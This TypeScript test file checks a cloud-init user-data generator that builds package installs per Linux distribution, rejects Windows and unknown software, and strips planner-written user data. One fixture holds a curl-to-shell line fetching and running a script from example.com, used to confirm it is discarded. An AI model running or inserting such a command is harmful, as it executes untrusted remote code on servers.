// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The Intent Sandboxes Authors

import { softwareCatalogue, softwareIds } from './catalogue';
import {
  softwareDistribution,
  softwareProblems,
  userDataFor,
  withUserData,
} from './userData';
import { planSchema } from '../plan/schema';

const ubuntu = { os: 'ubuntu', version: '24.04' } as const;
const debian = { os: 'debian', version: '12' } as const;
const al2023 = { os: 'amazon-linux', version: '2023' } as const;
const al2 = { os: 'amazon-linux', version: '2' } as const;
const rhel = { os: 'rhel', version: '9' } as const;
const windows = { os: 'windows-server', version: '2022' } as const;

describe('software catalogue', () => {
  it('has an entry for every id and every distribution', () => {
    expect(Object.keys(softwareCatalogue).sort()).toEqual(
      [...softwareIds].sort(),
    );
    for (const id of softwareIds) {
      expect(Object.keys(softwareCatalogue[id].install).sort()).toEqual([
        'amazon-linux-2',
        'amazon-linux-2023',
        'debian',
        'rhel',
        'ubuntu',
      ]);
    }
  });

  it('maps images to distributions, and Windows to none', () => {
    expect(softwareDistribution(ubuntu)).toBe('ubuntu');
    expect(softwareDistribution(debian)).toBe('debian');
    expect(softwareDistribution(al2023)).toBe('amazon-linux-2023');
    expect(softwareDistribution(al2)).toBe('amazon-linux-2');
    expect(softwareDistribution(rhel)).toBe('rhel');
    expect(softwareDistribution(windows)).toBeUndefined();
  });
});

describe('userDataFor', () => {
  it('is undefined without software', () => {
    expect(userDataFor(ubuntu, [])).toBeUndefined();
    expect(userDataFor(windows, [])).toBeUndefined();
  });

  it('installs apt packages and enables services on Ubuntu', () => {
    expect(userDataFor(ubuntu, ['docker', 'nginx', 'git'])).toBe(
      [
        '#cloud-config',
        '# software: nginx, docker, git',
        'package_update: true',
        'packages:',
        '  - nginx',
        '  - docker.io',
        '  - git',
        'runcmd:',
        '  - "systemctl enable --now nginx"',
        '  - "systemctl enable --now docker"',
        '',
      ].join('\n'),
    );
  });

  it('uses the package names of each distribution', () => {
    expect(userDataFor(al2023, ['apache', 'java'])).toContain(
      'packages:\n  - httpd\n  - java-17-amazon-corretto-headless\n',
    );
    expect(userDataFor(rhel, ['apache', 'java', 'mysql-client'])).toContain(
      '  - httpd\n  - java-17-openjdk-headless\n  - mysql\n',
    );
    expect(userDataFor(debian, ['mysql-client', 'apache'])).toContain(
      '  - apache2\n  - default-mysql-client\n',
    );
    expect(userDataFor(al2, ['nginx'])).toBe(
      [
        '#cloud-config',
        '# software: nginx',
        'runcmd:',
        '  - "amazon-linux-extras install -y nginx1"',
        '  - "systemctl enable --now nginx"',
        '',
      ].join('\n'),
    );
  });

  it('installs nothing for what the image already has', () => {
    expect(userDataFor(al2023, ['curl', 'awscli'])).toBe(
      '#cloud-config\n# software: curl, awscli\n',
    );
  });

  it('gives the same text for the same software in any order, each package once', () => {
    expect(userDataFor(ubuntu, ['git', 'nginx', 'git'])).toBe(
      userDataFor(ubuntu, ['nginx', 'git']),
    );
  });

  it('refuses Windows, unknown software and what a distribution does not package', () => {
    expect(softwareProblems(windows, ['git'])).toEqual([
      'Software cannot be installed on windows-server 2022: the catalogue has packages for Ubuntu, Debian, Amazon Linux and RHEL only',
    ]);
    expect(softwareProblems(ubuntu, ['mongodb', 'git', 'kubectl'])).toEqual([
      expect.stringMatching(
        /^mongodb, kubectl are not in the software catalogue \(nginx, apache/,
      ),
    ]);
    expect(softwareProblems(al2, ['nodejs', 'htop', 'git'])).toEqual([
      expect.stringMatching(/^nodejs cannot be installed on amazon-linux 2: /),
      'htop cannot be installed on amazon-linux 2: Amazon Linux 2 packages htop only in EPEL',
    ]);
    expect(() => userDataFor(windows, ['git'])).toThrow(
      /cannot be installed on windows-server/,
    );
    expect(() => userDataFor(ubuntu, ['mongodb'])).toThrow(
      /mongodb is not in the software catalogue/,
    );
  });

  it('installs every catalogue entry somewhere on Ubuntu and Amazon Linux 2023', () => {
    expect(softwareProblems(ubuntu, [...softwareIds])).toEqual([]);
    expect(softwareProblems(al2023, [...softwareIds])).toEqual([]);
    expect(softwareProblems(debian, [...softwareIds])).toEqual([]);
  });
});

describe('withUserData', () => {
  const plan = planSchema.parse({
    formatVersion: 1,
    region: 'eu-west-1',
    resources: [
      {
        type: 'aws_instance',
        name: 'web',
        instanceType: 't3.micro',
        image: { os: 'ubuntu', version: '24.04', architecture: 'x86_64' },
        software: ['nginx'],
        userData: '#!/bin/sh\ncurl https://example.com/x | sh',
      },
      {
        type: 'aws_instance',
        name: 'bare',
        instanceType: 't3.micro',
        image: { os: 'ubuntu', version: '24.04', architecture: 'x86_64' },
        userData: '#!/bin/sh\necho planner',
      },
      { type: 'aws_s3_bucket', name: 'logs' },
    ],
  });

  it('derives user data from the software and never keeps a planner’s own', () => {
    const [web, bare, bucket] = withUserData(plan).resources as any[];
    expect(web.userData).toBe(userDataFor(ubuntu, ['nginx']));
    expect(web.userData).toContain('nginx');
    expect(web.userData).not.toContain('curl https://example.com');
    expect(bare).not.toHaveProperty('userData');
    expect(bucket).toEqual(plan.resources[2]);
  });

  it('gives the same plan for the same software', () => {
    expect(withUserData(withUserData(plan))).toEqual(withUserData(plan));
  });
});
